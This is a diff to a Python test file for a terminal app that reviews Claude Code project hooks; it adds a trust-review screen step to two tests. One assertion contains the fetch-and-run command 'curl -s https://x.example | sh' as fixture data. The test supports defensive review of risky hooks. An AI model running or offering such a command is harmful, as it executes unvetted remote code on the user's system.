@@ -14,6 +14,7 @@ from hookdash.core import with_claude
 from hookdash.tui.app import HookdashApp
 from hookdash.tui.screens.confirm import ConfirmScreen
 from hookdash.tui.screens.fire import FireScreen
+from hookdash.tui.screens.trust import TrustScreen
 from hookdash.tui.widgets.banners import Banner
 from hookdash.tui.widgets.hook_tree import HookTree
 from tests.conftest import Sandbox, command_hook, settings_with
@@ -245,6 +246,9 @@ async def test_t_reviews_claude_project_hooks(sandbox: Sandbox) -> None:
         banner = next(b for b in app.screen.query(Banner) if b.has_class("trust"))
         assert "2 Claude Code project hooks not reviewed yet" in text_of(banner)
         await pilot.press("T")
+        await until(lambda: isinstance(app.screen, TrustScreen))
+        assert len(app.screen.others) == 2  # type: ignore[attr-defined]
+        await pilot.press("a", "y")  # every one checked, then the question
         await until(lambda: isinstance(app.screen, ConfirmScreen))
         body = text_of(app.screen.query_one("#confirm-body"), 200)
         assert "curl -s https://x.example | sh" in body and "echo done" in body
@@ -268,8 +272,10 @@ async def test_t_reviews_a_claude_settings_command_as_a_hook(sandbox: Sandbox) -
         banner = next(b for b in app.screen.query(Banner) if b.has_class("trust"))
         assert "1 Claude Code project hook and 1 settings command not" in text_of(banner)
         await pilot.press("T")
+        await until(lambda: isinstance(app.screen, TrustScreen))
+        await pilot.press("A")  # every item shown
         await until(lambda: isinstance(app.screen, ConfirmScreen))
-        assert app.screen._title == "Review 1 Claude Code project hook and 1 settings command"
+        assert app.screen._title == "Record 2 Claude Code items as reviewed?"
         body = text_of(app.screen.query_one("#confirm-body"), 200)
         assert "apiKeyHelper (settings command, not a hook)" in body and "echo k" in body
         await pilot.press("y")
